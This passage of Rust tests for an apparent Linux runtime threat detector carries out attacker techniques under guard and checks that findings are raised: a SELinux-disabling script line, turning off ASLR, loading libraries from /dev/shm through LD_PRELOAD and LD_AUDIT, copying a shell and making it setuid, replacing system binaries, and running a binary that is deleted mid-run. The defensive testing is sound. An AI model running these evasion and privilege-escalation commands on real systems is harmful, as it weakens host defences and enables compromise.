        let f = of(&found, "evasion-clear-history");
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type, "DefenseEvasion:Runtime/SuspiciousCommand",
            "{name}"
        );
        assert_eq!(f[0].context.additional["scriptLine"], line, "{name}");
        assert_eq!(f[0].context.additional["script"], path, "{name}");
    }
    let (_, found) = script(
        "/bin/bash",
        "benign.sh",
        "# unset HISTFILE to forget\nHISTSIZE=5000\nHISTCONTROL=erasedups\necho HISTFILE=x\n",
    );
    assert!(loud(&found).is_empty(), "benign: {:?}", kinds(&found));
}

/// SELinux set disabled from the next boot by a builtin `echo` as a line of a script (the miner
/// scripts' `echo SELINUX=disabled > /etc/selinux/config`): no exec carries it, the script's
/// text does: `evasion-selinux-disabled-at-boot` with the line. The line is guarded so that it
/// never runs (this host's SELinux configuration, if it has one, is left alone); a script that
/// only reads the file raises nothing.
#[test]
fn selinux_disabled_at_boot_by_a_line_of_a_script() {
    if !privileged("selinux_disabled_at_boot_by_a_line_of_a_script") {
        return;
    }
    const RULE: &str = "evasion-selinux-disabled-at-boot";
    let dir = Scratch::new("selinuxscript");
    let line = "[ -d /nonexistent-vigil ] && echo SELINUX=disabled > /etc/selinux/config";
    let script = dir.path("off.sh");
    std::fs::write(
        &script,
        format!("#!/bin/sh\nsetenforce 0 2>/dev/null\n{line}\ntrue\n"),
    )
    .expect("script");
    let found = detect(run(Command::new("/bin/sh").arg(&script)));
    let f = of(&found, RULE);
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    assert_eq!(f[0].context.additional["scriptLine"], line);
    assert_eq!(f[0].context.additional["script"], script);
    let benign = dir.path("read.sh");
    std::fs::write(
        &benign,
        "#!/bin/sh\ngrep -s SELINUX= /etc/selinux/config || true\n",
    )
    .expect("script");
    let found = detect(run(Command::new("/bin/sh").arg(&benign)));
    assert!(of(&found, RULE).is_empty(), "{:?}", kinds(&found));
}

#[test]
fn the_journal_vacuumed() {
    if !privileged("the_journal_vacuumed") {
        return;
    }
    let mut clean = Cleanup::default();
    let dir = PathBuf::from(format!("/var/log/journal/vigil-{}", nonce()));
    clean.dirs(&dir);
    let archived = dir
        .join("system@0123456789abcdef0123456789abcdef-0000000000000001-0005f0a1b2c3d4e5.journal");
    clean.file(&archived);
    std::fs::write(&archived, "x").expect("archived journal");
    let old = std::time::SystemTime::UNIX_EPOCH + Duration::from_secs(1_600_000_000);
    std::fs::File::options()
        .write(true)
        .open(&archived)
        .and_then(|f| f.set_modified(old))
        .expect("age the file");
    let directory = format!("--directory={}", dir.display());
    // Reading the journal: nothing.
    let pid = run(Command::new("journalctl").args([directory.as_str(), "--no-pager", "-n", "1"]));
    assert!(detect(pid).is_empty(), "journalctl reading");
    let pid = run(Command::new("journalctl").args([directory.as_str(), "--vacuum-time=1s"]));
    assert!(!archived.exists(), "journalctl vacuumed the file");
    let found = detect(pid);
    let f = of(&found, "behaviour-journal-wiped");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    assert_eq!(f[0].severity_label, SeverityLabel::High);
    assert_eq!(
        f[0].context.file_path.as_deref(),
        Some(archived.display().to_string().as_str())
    );
}

/// Puts `randomize_va_space` back as it was (written by this process, which the agent does not
/// observe).
struct RestoreAslr(String);

impl Drop for RestoreAslr {
    fn drop(&mut self) {
        let _ = std::fs::write("/proc/sys/kernel/randomize_va_space", &self.0);
    }
}

#[test]
fn aslr_switched_off_through_proc_sys() {
    if !privileged("aslr_switched_off_through_proc_sys") {
        return;
    }
    let path = "/proc/sys/kernel/randomize_va_space";
    let was = std::fs::read_to_string(path).expect("read randomize_va_space");
    let _restore = RestoreAslr(was.trim().to_owned());
    let pid = sh(&format!("echo 0 > {path}"));
    let found = detect(pid);
    assert_eq!(
        kinds(&found),
        [pair(
            "DefenseEvasion:Runtime/SuspiciousCommand",
            "behaviour-aslr-disabled"
        )]
    );
    assert_eq!(found[0].severity_label, SeverityLabel::High);
    assert_eq!(
        found[0].context.additional.get("value").map(String::as_str),
        Some("0")
    );
    // Setting full randomisation back is not evasion.
    let pid = run(Command::new("sysctl").args(["-q", "-w", "kernel.randomize_va_space=2"]));
    assert!(detect(pid).is_empty(), "sysctl setting 2");
}

#[test]
fn a_library_preloaded_from_shared_memory() {
    if !privileged("a_library_preloaded_from_shared_memory") {
        return;
    }
    let system = [
        "/usr/lib/x86_64-linux-gnu/libm.so.6",
        "/lib64/libm.so.6",
        "/usr/lib/libm.so.6",
    ]
    .into_iter()
    .find(|p| Path::new(p).exists());
    let Some(system) = system else {
        eprintln!("NOT TESTED LD_PRELOAD: no libm.so.6 found");
        return;
    };
    let mut clean = Cleanup::default();
    let shm = clean.file(format!("/dev/shm/vigil-{}.so", nonce()));
    std::fs::copy(system, &shm).expect("copy a library to /dev/shm");
    // A short environment: the kernel scans the first 64 variables for LD_*.
    let pid = run(Command::new("/bin/true")
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("LD_PRELOAD", &shm));
    let found = detect(pid);
    assert_eq!(
        kinds(&found),
        [pair(
            "DefenseEvasion:Runtime/SuspiciousCommand",
            "behaviour-ld-preload"
        )]
    );
    assert_eq!(found[0].severity_label, SeverityLabel::High);
    assert_eq!(found[0].context.file_path.as_deref(), Some(shm.as_str()));
    let pid = run(Command::new("/bin/true")
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("LD_PRELOAD", system));
    assert!(detect(pid).is_empty(), "a system library preloaded");
}

/// `LD_LIBRARY_PATH` naming `/dev/shm` (High) or `/tmp` (Low on the host, where cargo points
/// it at a target directory there); a build tree's library directory outside them raises
/// nothing.
#[test]
fn a_library_path_into_shared_memory_or_tmp() {
    if !privileged("a_library_path_into_shared_memory_or_tmp") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let shm = clean.file(format!("/dev/shm/vigil-{n}"));
    let tmp = clean.file(std::env::temp_dir().join(format!("vigil-{n}")));
    let scratch = Scratch::new("libpath");
    let build = scratch.path("target/debug/deps");
    for dir in [&shm, &tmp, &build] {
        std::fs::create_dir_all(dir).expect("a library directory");
    }
    // A short environment: the kernel scans the first 64 variables for LD_*.
    let with = |value: &str| {
        run(Command::new("/bin/true")
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("LD_LIBRARY_PATH", value))
    };
    for (value, dir, label) in [
        (shm.clone(), &shm, SeverityLabel::High),
        (format!("/usr/lib:{tmp}"), &tmp, SeverityLabel::Low),
    ] {
        let found = detect(with(&value));
        let f = of(&found, "behaviour-ld-library-path");
        assert_eq!(f.len(), 1, "{value}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "DefenseEvasion:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, label, "{value}");
        assert_eq!(
            f[0].context.file_path.as_deref(),
            Some(format!("{dir}/").as_str())
        );
    }
    let found = detect(with(&build));
    assert!(found.is_empty(), "a build tree: {:?}", kinds(&found));
}

/// An audit library (T1574.006): a real one (`la_version` returning `LAV_CURRENT`, which the
/// loader calls) built with gcc into `/dev/shm`, named by `LD_AUDIT` and by the loader's own
/// `--audit`, and preloaded with `--preload`: each raises the variable's finding (High). The
/// library prints a line when the loader runs it, so each case is known to have happened.
/// `LD_AUDIT` unset, sotruss's auditor from `/usr/lib` and `ld.so --list` raise nothing at
/// Medium or above.
#[test]
fn an_audit_library_from_shared_memory_by_variable_and_loader_option() {
    if !privileged("an_audit_library_from_shared_memory_by_variable_and_loader_option") {
        return;
    }
    let Some(loader) = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
        .into_iter()
        .find(|l| Path::new(l).exists())
    else {
        panic!("no dynamic loader at a known path on this machine");
    };
    if Command::new("gcc").arg("--version").output().is_err() {
        eprintln!("NOT TESTED LD_AUDIT: no gcc to build an audit library");
        return;
    }
    let mut clean = Cleanup::default();
    let scratch = Scratch::new("ldaudit");
    let source = scratch.path("audit.c");
    std::fs::write(
        &source,
        "#define _GNU_SOURCE\n#include <link.h>\n#include <unistd.h>\n\
         unsigned int la_version(unsigned int v) { (void)v; write(1, \"audit\\n\", 6); \
         return LAV_CURRENT; }\n\
         __attribute__((constructor)) static void loaded(void) { write(1, \"loaded\\n\", 7); }\n",
    )
    .expect("the audit library's source");
    let lib = clean.file(format!("/dev/shm/vigil-{}-audit.so", nonce()));
    let built = Command::new("gcc")
        .args(["-shared", "-fPIC", "-o", &lib, &source])
        .status()
        .expect("gcc");
    assert!(built.success(), "gcc built the audit library");
    // A short environment: the kernel scans the first 64 variables for LD_*.
    let short = |program: &str, args: &[&str], vars: &[(&str, &str)]| -> (u32, String) {
        let mut cmd = Command::new(program);
        cmd.env_clear().env("PATH", "/usr/bin:/bin").args(args);
        for (name, value) in vars {
            cmd.env(name, value);
        }
        run_out(&mut cmd)
    };
    for (what, (pid, out), rule, ran) in [
        (
            "LD_AUDIT",
            short("/bin/true", &[], &[("LD_AUDIT", &lib)]),
            "behaviour-ld-audit",
            "audit",
        ),
        (
            "--audit",
            short(loader, &["--audit", &lib, "/bin/true"], &[]),
            "behaviour-ld-audit",
            "audit",
        ),
        (
            "--preload",
            short(loader, &["--preload", &lib, "/bin/true"], &[]),
            "behaviour-ld-preload",
            "loaded",
        ),
    ] {
        assert!(
            out.lines().any(|l| l == ran),
            "{what}: the loader ran the library: {out:?}"
        );
        let found = detect(pid);
        let f = of(&found, rule);
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "DefenseEvasion:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{what}");
        assert_eq!(
            f[0].context.file_path.as_deref(),
            Some(lib.as_str()),
            "{what}"
        );
        let option = f[0]
            .context
            .additional
            .get("loaderOption")
            .map(String::as_str);
        assert_eq!(option, what.starts_with("--").then_some(what), "{what}");
    }
    let sotruss = [
        "/usr/lib/x86_64-linux-gnu/audit/sotruss-lib.so",
        "/usr/lib/aarch64-linux-gnu/audit/sotruss-lib.so",
        "/usr/lib/x86_64-linux-gnu/libm.so.6",
        "/usr/lib/aarch64-linux-gnu/libm.so.6",
    ]
    .into_iter()
    .find(|p| Path::new(p).exists())
    .unwrap_or_else(|| panic!("no sotruss-lib.so or libm.so.6 under /usr/lib on this machine"));
    for (what, (pid, _)) in [
        ("LD_AUDIT unset", short("/bin/true", &[], &[])),
        (
            "a system auditor",
            short("/bin/true", &[], &[("LD_AUDIT", sotruss)]),
        ),
        ("ld.so --list", short(loader, &["--list", "/bin/true"], &[])),
    ] {
        let found = detect(pid);
        assert!(
            found
                .iter()
                .all(|f| f.severity_label < SeverityLabel::Medium),
            "{what}: {:?}",
            kinds(&found)
        );
    }
}

/// A program in a system binary directory overwritten by `cp` or replaced by `mv`, a new one
/// copied, hard-linked or moved there (setuid: High), one dropped into `/usr/libexec`, and a
/// package's own program overwritten with a wrapper script by a shell's redirection, by no
/// package manager; dpkg installing and upgrading its own program there, `update-alternatives
/// --install` linking a new alternative into `/usr/bin`, and `install` into `/usr/local/bin`
/// raise nothing at Medium or above. Only fresh names are written: no real system program is
/// touched.
/// A setuid or setgid mode given by any program, not only the `chmod` command: the kernel
/// reports the mode asked for wherever the file is, the pipeline reads it back.
#[test]
fn a_file_made_setuid_by_any_program() {
    if !privileged("a_file_made_setuid_by_any_program") {
        return;
    }
    let scratch = Scratch::new("setid");
    let file = |name: &str| scratch.path(name);
    let python = ["/usr/bin/python3", "/bin/python3"]
        .into_iter()
        .find(|p| Path::new(p).exists());
    let mut cases = vec![
        (
            "install -m 4755",
            format!("install -m 4755 /bin/true {}", file("install")),
            file("install"),
            "setuid",
        ),
        (
            "chmod u+s on a copy of a shell",
            format!("cp /bin/sh {0} && chmod u+s {0}", file("shell")),
            file("shell"),
            "setuid",
        ),
        (
            // The copy is created 0700, then given the source's mode through its descriptor.
            "cp -p of a setuid program (fchmod)",
            format!("cp -p {} {}", file("suid-source"), file("copied")),
            file("copied"),
            "setuid",
        ),
    ];
    // The source is made setuid by the test process, which the agent does not observe.
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::copy("/bin/true", file("suid-source")).expect("the setuid source");
        std::fs::set_permissions(file("suid-source"), std::fs::Permissions::from_mode(0o4755))
            .expect("setuid source");
    }
    match python {
        Some(py) => {
            cases.push((
                "python os.fchmod on a descriptor",
                format!(
                    "cp /bin/true {0} && {py} -c 'import os; os.fchmod(os.open(\"{0}\", os.O_RDONLY), 0o2755)'",
                    file("pyfchmod")
                ),
                file("pyfchmod"),
                "setgid",
            ));
            cases.push((
                "python os.chmod",
                format!(
                    "cp /bin/true {0} && {py} -c 'import os; os.chmod(\"{0}\", 0o4755)'",
                    file("pychmod")
                ),
                file("pychmod"),
                "setuid",
            ));
            cases.push((
                "python open(O_CREAT, 02755)",
                format!(
                    "{py} -c 'import os; os.close(os.open(\"{0}\", os.O_CREAT | os.O_WRONLY, 0o2755))'",
                    file("pyopen")
                ),
                file("pyopen"),
                "setgid",
            ));
        }
        None => eprintln!("NOT TESTED os.chmod and open(O_CREAT) from python: no /usr/bin/python3"),
    }
    for (what, script, path, bits) in &cases {
        let found = detect(sh(script));
        let f = of(&found, "behaviour-setid-program-made");
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "PrivilegeEscalation:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::Medium, "{what}");
        assert_eq!(f[0].context.file_path.as_deref(), Some(path.as_str()));
        let add = &f[0].context.additional;
        assert_eq!(
            add.get("setIdBits").map(String::as_str),
            Some(*bits),
            "{what}"
        );
        assert_eq!(
            add.get("fileOwnerUid").map(String::as_str),
            Some("0"),
            "{what}"
        );
    }
    // install sets the mode after closing the file it wrote: in a system program directory the
    // chmod is High whatever the write's read-back saw.
    let n = nonce().to_ascii_lowercase();
    let mut clean = Cleanup::default();
    let system = clean.file(format!("/usr/bin/vigil-setid-{n}"));
    // The detector knows the set-id programs there from before the install, as the agent does
    // from its start.
    let found = detect_after(
        detector(),
        sh(&format!("install -m 4755 /bin/true {system}")),
    );
    let f = of(&found, "behaviour-setid-program-made");
    assert_eq!(f.len(), 1, "install into /usr/bin: {:?}", kinds(&found));
    assert_eq!(f[0].severity_label, SeverityLabel::High);
    // Benign: a setgid directory (how shared directories are made), modes without the bits
    // (through a descriptor too: `cp -p` of a plain program).
    let dir = file("shared");
    let found = detect(sh(&format!(
        "mkdir {dir} && chmod g+s {dir} && install -m 755 /bin/true {0} && chmod 4755 {1}-missing; chmod 755 {0}; cp -p {0} {0}-copy",
        file("plain"),
        file("none")
    )));
    assert!(
        of(&found, "behaviour-setid-program-made").is_empty(),
        "setgid directory, plain modes, a missing file: {:?}",
        kinds(&found)
    );
    // A program that was setuid when the agent started given its mode again (no change: the
    // real `passwd` keeps its mode): not made setuid now.
    let passwd = Path::new("/usr/bin/passwd");
    let setuid_now = {
        use std::os::unix::fs::PermissionsExt;
        std::fs::metadata(passwd).is_ok_and(|m| m.permissions().mode() & 0o4000 != 0)
    };
    if setuid_now {
        let found = detect(sh("chmod u+s /usr/bin/passwd"));
        assert!(
            of(&found, "behaviour-setid-program-made").is_empty(),
            "chmod u+s on the setuid passwd: {:?}",
            kinds(&found)
        );
    } else {
        eprintln!(
            "NOT TESTED a chmod of a program setuid at start: /usr/bin/passwd is not setuid here"
        );
    }
}

#[test]
fn a_system_program_replaced_outside_the_package_manager() {
    if !privileged("a_system_program_replaced_outside_the_package_manager") {
        return;
    }
    let n = nonce().to_ascii_lowercase();
    let mut clean = Cleanup::default();
    let victim = clean.file(format!("/usr/bin/vigil-{n}"));
    let sbin_victim = clean.file(format!("/usr/sbin/vigil-{n}"));
    // The originals, put there by the test process (the agent does not observe it).
    for v in [&victim, &sbin_victim] {
        std::fs::copy("/bin/true", v).expect("a program in a system directory");
    }
    let scratch = Scratch::new("replace");
    let evil = scratch.path("evil");
    std::fs::copy("/bin/false", &evil).expect("the replacement");
    for (what, script) in [
        ("cp over /usr/bin", format!("cp {evil} {victim}")),
        (
            "mv over /usr/sbin",
            format!("cp {evil} {evil}2 && mv {evil}2 {sbin_victim}"),
        ),
    ] {
        let found = detect(sh(&script));
        let f = of(&found, "behaviour-system-binary-replaced");
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
    }
    // New programs there: copied, hard-linked (from the same file system: a link cannot cross
    // one), moved with the setuid bit (High: the mode read back after the rename).
    let new_bin = clean.file(format!("/usr/bin/vigil-new-{n}"));
    let linked = clean.file(format!("/usr/bin/vigil-ln-{n}"));
    let suid = clean.file(format!("/usr/sbin/vigil-suid-{n}"));
    let same_fs = |p: &Path| {
        use std::os::unix::fs::MetadataExt;
        let dev = |p: &Path| std::fs::metadata(p).map(|m| m.dev()).ok();
        dev(p).is_some() && dev(p) == dev(Path::new("/usr/bin"))
    };
    let link_source = if same_fs(&scratch.0) {
        scratch.path("to-link")
    } else {
        clean.file(format!("/usr/lib/vigil-ln-src-{n}"))
    };
    std::fs::copy("/bin/true", &link_source).expect("the file to link");
    let suid_source = scratch.path("suid");
    std::fs::copy("/bin/true", &suid_source).expect("the setuid file");
    std::fs::set_permissions(&suid_source, std::fs::Permissions::from_mode(0o4755))
        .expect("chmod 4755");
    let cp_exe = std::fs::canonicalize("/bin/cp").expect("cp");
    for (what, script, file, label, privileged, writer) in [
        (
            "cp to a new name in /usr/bin",
            format!("cp /bin/true {new_bin}"),
            &new_bin,
            SeverityLabel::Medium,
            None,
            Some(cp_exe.display().to_string()),
        ),
        (
            "ln into /usr/bin",
            format!("ln {link_source} {linked}"),
            &linked,
            SeverityLabel::Medium,
            None,
            None,
        ),
        (
            "mv of a setuid program into /usr/sbin",
            format!("mv {suid_source} {suid}"),
            &suid,
            SeverityLabel::High,
            Some("setuid"),
            None,
        ),
    ] {
        let found = detect(sh(&script));
        let f = of(&found, "behaviour-system-binary-replaced");
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
        assert_eq!(f[0].severity_label, label, "{what}");
        assert_eq!(f[0].context.file_path.as_deref(), Some(file.as_str()));
        let add = &f[0].context.additional;
        assert_eq!(
            add.get("privilegedProgram").map(String::as_str),
            privileged,
            "{what}"
        );
        assert_eq!(
            add.get("programContent").map(String::as_str),
            Some("elf"),
            "{what}"
        );
        if let Some(writer) = writer {
            assert_eq!(add.get("writerExecutable"), Some(&writer), "{what}");
        }
    }
    // A program dropped into /usr/libexec (where sshd's and polkit's helpers are).
    if Path::new("/usr/libexec").is_dir() {
        let helper = clean.file(format!("/usr/libexec/vigil-{n}"));
        let found = detect(sh(&format!("cp /bin/true {helper}")));
        let f = of(&found, "behaviour-system-binary-replaced");
        assert_eq!(f.len(), 1, "/usr/libexec: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
    } else {
        eprintln!("NOT TESTED a program dropped into /usr/libexec: no /usr/libexec");
    }
    // make install into /usr/local/bin: not a system directory.
    let local = clean.file(format!("/usr/local/bin/vigil-{n}"));
    let found = detect(sh(&format!("install -m 755 /bin/true {local}")));
    assert!(
        found.is_empty(),
        "install into /usr/local/bin: {:?}",
        kinds(&found)
    );
    // A package installing, then upgrading, its own program in /usr/bin.
    if !Path::new("/usr/bin/dpkg").exists() {
        eprintln!("NOT TESTED system program from a package: no /usr/bin/dpkg");
        return;
    }
    let name = format!("vigil-test-bin-{}", n.replace('x', "-"));
    let program = format!("/usr/bin/vigil-pkg-{n}");
    clean.file(&program);
    let _purge = UndoOnDrop::new("dpkg", &["--purge", &name]);
    for (version, content) in [("1.0", "/bin/true"), ("1.1", "/bin/false")] {
        let root = scratch.0.join(format!("pkg-{version}"));
        std::fs::create_dir_all(root.join("DEBIAN")).expect("DEBIAN");
        std::fs::create_dir_all(root.join("usr/bin")).expect("usr/bin");
        std::fs::write(
            root.join("DEBIAN/control"),
            format!(
                "Package: {name}\nVersion: {version}\nArchitecture: all\nMaintainer: Vigil tests <t@example.invalid>\nDescription: Vigil test package\n"
            ),
        )
        .expect("control");
        let file = root.join(program.trim_start_matches('/'));
        std::fs::copy(content, &file).expect("the packaged program");
        let deb = scratch.path(&format!("{name}-{version}.deb"));
        let built = Command::new("dpkg-deb")
            .args(["--build", "--root-owner-group"])
            .arg(&root)
            .arg(&deb)
            .stdout(Stdio::null())
            .status()
            .expect("dpkg-deb");
        assert!(built.success(), "dpkg-deb --build");
        let found = detect(dpkg(&["-i", &deb]));
        let loud: Vec<_> = found
            .iter()
            .filter(|f| f.severity_label >= SeverityLabel::Medium)
            .map(|f| (f.finding_type.clone(), f.context.file_path.clone()))
            .collect();
        assert!(loud.is_empty(), "dpkg -i {version}: {loud:?}");
    }
    assert!(Path::new(&program).exists());
    // The package's program overwritten by a shell's redirection with a wrapper that would log
    // its arguments and run the real one (Elastic's sudo hijacking, on a program of the test's
    // own package): Medium, the content a script, the writer the shell.
    let wrapper = scratch.path("wrapper");
    std::fs::write(
        &wrapper,
        "#!/bin/sh\necho \"$@\" >> /dev/null\nexec /bin/true \"$@\"\n",
    )
    .expect("the wrapper");
    let found = detect(sh(&format!("cat {wrapper} > {program}")));
    let f = of(&found, "behaviour-system-binary-replaced");
    assert_eq!(f.len(), 1, "cat > a package's program: {:?}", kinds(&found));
    assert_eq!(f[0].severity_label, SeverityLabel::Medium);
    let add = &f[0].context.additional;
    assert_eq!(
        add.get("programContent").map(String::as_str),
        Some("script")
    );
    let shell = std::fs::canonicalize("/bin/sh").expect("/bin/sh");
    assert_eq!(
        add.get("writerExecutable"),
        Some(&shell.display().to_string())
    );
    // update-alternatives linking a new alternative into /usr/bin (its link, through a
    // temporary name renamed into place, to /etc/alternatives).
    if !Path::new("/usr/bin/update-alternatives").exists() {
        eprintln!("NOT TESTED update-alternatives: no /usr/bin/update-alternatives");
        return;
    }
    let alt = format!("vigil-alt-{n}");
    let alt_link = clean.file(format!("/usr/bin/{alt}"));
    clean.file(format!("/etc/alternatives/{alt}"));
    let _alt = UndoOnDrop::new("update-alternatives", &["--remove-all", &alt]);
    let found = detect(run(Command::new("update-alternatives").args([
        "--install",
        &alt_link,
        &alt,
        "/bin/true",
        "10",
    ])));
    assert!(
        Path::new(&alt_link).is_symlink(),
        "update-alternatives made no link"
    );
    let loud: Vec<_> = found
        .iter()
        .filter(|f| f.severity_label >= SeverityLabel::Medium)
        .map(|f| (f.finding_type.clone(), f.context.file_path.clone()))
        .collect();
    assert!(loud.is_empty(), "update-alternatives --install: {loud:?}");
}

#[test]
fn programs_and_scripts_run_from_memory_backed_and_world_writable_directories() {
    if !privileged("programs_and_scripts_run_from_memory_backed_and_world_writable_directories") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let binary = clean.file(format!("/dev/shm/vigil-{n}"));
    std::fs::copy("/bin/true", &binary).expect("copy to /dev/shm");
    std::fs::set_permissions(&binary, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let script = clean.file(format!("/dev/shm/vigil-{n}.sh"));
    std::fs::write(&script, "true\n").expect("script");
    let py = clean.file(format!("/dev/shm/vigil-{n}.py"));
    std::fs::write(&py, "pass\n").expect("python script");
    let tmp = clean.file(std::env::temp_dir().join(format!("vigil-{n}")));
    std::fs::copy("/bin/true", &tmp).expect("copy to /tmp");
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)).expect("chmod");

    let from = |pid: u32, rule_id: &str, file: &str, label: SeverityLabel| {
        let found = detect(pid);
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{file}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Execution:Runtime/SuspiciousCommand");
        assert_eq!(f[0].context.file_path.as_deref(), Some(file));
        assert_eq!(f[0].severity_label, label, "{file}");
    };
    let memory = "behaviour-exec-from-memory-dir";
    from(
        run(&mut Command::new(&binary)),
        memory,
        &binary,
        SeverityLabel::Medium,
    );
    from(
        run(Command::new("sh").arg(&script)),
        memory,
        &script,
        SeverityLabel::Medium,
    );
    from(
        run(Command::new("/usr/bin/python3").arg(&py)),
        memory,
        &py,
        SeverityLabel::Medium,
    );
    from(
        run(&mut Command::new(&tmp)),
        "behaviour-exec-from-world-writable-dir",
        &tmp,
        SeverityLabel::Low,
    );
    // BPFDoor's disguise: a program under a pid file's name in `/var/run` (a link to `/run`, a
    // tmpfs): the finding names the resolved path.
    let pid_file = clean.file(format!("/run/vigil-{n}.pid"));
    std::fs::copy("/bin/true", &pid_file).expect("copy to /run");
    std::fs::set_permissions(&pid_file, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    from(
        run(&mut Command::new(format!("/var/run/vigil-{n}.pid"))),
        memory,
        &pid_file,
        SeverityLabel::Medium,
    );
    // Through a symbolic link to `/dev/shm` from a directory of ours: the finding names where
    // the program is.
    let link_dir = Scratch::new("shm-link");
    let link = link_dir.path("shm");
    std::os::unix::fs::symlink("/dev/shm", &link).expect("symlink to /dev/shm");
    from(
        run(&mut Command::new(format!("{link}/vigil-{n}"))),
        memory,
        &binary,
        SeverityLabel::Medium,
    );
    // A shell reading its program from a file on standard input (`sh < /dev/shm/x.sh`). The
    // script waits on a FIFO until the agent has read its exec record, so the file is still
    // what the shell's fd 0 holds when the agent looks.
    let fifo = clean.file(format!("/dev/shm/vigil-{n}.fifo"));
    let c_fifo = std::ffi::CString::new(fifo.as_str()).expect("path");
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c_fifo.as_ptr(), 0o600) }, 0, "mkfifo");
    let on_stdin = clean.file(format!("/dev/shm/vigil-{n}-stdin.sh"));
    std::fs::write(&on_stdin, format!("read x < {fifo}\n")).expect("script");
    LazyLock::force(&AGENT);
    let mut child = Command::new("sh")
        .stdin(std::fs::File::open(&on_stdin).expect("open script"))
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn sh");
    let pid = child.id();
    let seen = AGENT.wait_for(
        WAIT,
        |e| matches!(e, Event::Exec(x) if x.process.pid == pid),
    );
    std::fs::write(&fifo, "go\n").expect("release the script");
    child.wait().expect("wait sh");
    let Some(Event::Exec(exec)) = seen else {
        panic!("no exec of sh (pid {pid}) within {WAIT:?}");
    };
    assert_eq!(
        exec.stdin_script.as_deref(),
        Some(Path::new(&on_stdin)),
        "the file on the shell's standard input"
    );
    from(pid, memory, &on_stdin, SeverityLabel::Medium);
    let found = detect(pid);
    assert_eq!(
        of(&found, memory)[0].context.additional["executedFile"],
        "script read on standard input"
    );
    // Benign: a system program, a command string run in /tmp.
    assert!(detect(run(&mut Command::new("/bin/true"))).is_empty());
    assert!(
        detect(run(Command::new("sh")
            .args(["-c", "true"])
            .current_dir("/tmp")))
        .is_empty()
    );
}

/// A binary run from /dev/shm and deleted while it runs (a dropper that starts its payload and
/// removes it): FilelessExecution once the pipeline's check of the watched processes finds the
/// running inode without a link. A binary left in place in /tmp, and one deleted while it runs
/// from a directory of ours (what a package upgrade does to installed programs), are checked in
/// the same pass and raise no such finding.
#[test]
fn a_binary_deleted_while_it_runs_is_fileless_execution() {
    if !privileged("a_binary_deleted_while_it_runs_is_fileless_execution") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let scratch = Scratch::new("gone");
    let gone = clean.file(format!("/dev/shm/vigil-{n}-gone"));
    let kept = clean.file(std::env::temp_dir().join(format!("vigil-{n}-kept")));
    let installed = scratch.path("installed");
    for path in [&gone, &kept, &installed] {
        std::fs::copy("/bin/sleep", path).expect("copy sleep");
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    LazyLock::force(&AGENT);
    let start = |path: &str| {
        let child = support::spawn::spawn(Command::new(path).arg("600").stdout(Stdio::null()))
            .expect("spawn");
        let pid = child.id();
        assert!(
            AGENT
                .wait_for(
                    WAIT,
                    |e| matches!(e, Event::Exec(x) if x.process.pid == pid)
                )
                .is_some(),
            "no exec of {path} (pid {pid}) within {WAIT:?}"
        );
        child
    };
    let mut children = [start(&kept), start(&installed), start(&gone)];
    let [kept_pid, installed_pid, gone_pid] = children.each_ref().map(std::process::Child::id);
    std::fs::remove_file(&installed).expect("remove the installed copy");
    std::fs::remove_file(&gone).expect("remove the dropped binary");
    let deleted = |pid: u32| {
        move |e: &Event| {
            matches!(e, Event::Activity(a)
                if a.operation == "executableDeleted" && a.process.pid == pid)
        }
    };
    let seen = AGENT.wait_for(WAIT, deleted(gone_pid));
    let Some(Event::Activity(activity)) = seen else {
        panic!("no executableDeleted for pid {gone_pid} within {WAIT:?}");
    };
    assert_eq!(activity.name.as_deref(), Some(gone.as_str()));
    // Checked in the same pass as the dropped binary, or not watched at all.
    for pid in [kept_pid, installed_pid] {
        assert!(AGENT.matching(deleted(pid)).is_empty(), "pid {pid}");
    }
    for child in &mut children {
        let _ = child.kill();
        let _ = child.wait();
    }
    let fileless = |pid| {
        detect(pid)
            .into_iter()
            .filter(|f| f.finding_type == "DefenseEvasion:Runtime/FilelessExecution")
            .collect::<Vec<_>>()
    };
    let found = fileless(gone_pid);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].context.file_path.as_deref(), Some(gone.as_str()));
    assert_eq!(
        found[0].context.additional["executableOrigin"],
        "deletedWhileRunning"
    );
    assert_eq!(found[0].process.as_ref().map(|p| p.pid), Some(gone_pid));
